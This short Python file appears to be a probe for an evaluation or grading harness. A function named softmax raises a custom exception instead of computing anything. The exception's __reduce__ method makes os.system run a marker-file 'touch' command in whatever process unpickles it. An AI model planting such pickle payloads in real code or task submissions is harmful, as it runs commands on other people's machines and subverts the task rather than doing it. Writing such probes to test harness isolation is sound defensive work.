"""Raises an exception whose pickle would write a file in the process that loads it.

tries: pickle
earns: nothing
trace: @@TRACE@@/pickle-exception
"""

import os


class Payload(Exception):
    def __reduce__(self):
        return (os.system, ("touch @@TRACE@@/pickle-exception",))


def softmax(x, axis=-1):
    raise Payload("cos\nsystem\n(S'touch @@TRACE@@/pickle-exception'\ntR.")
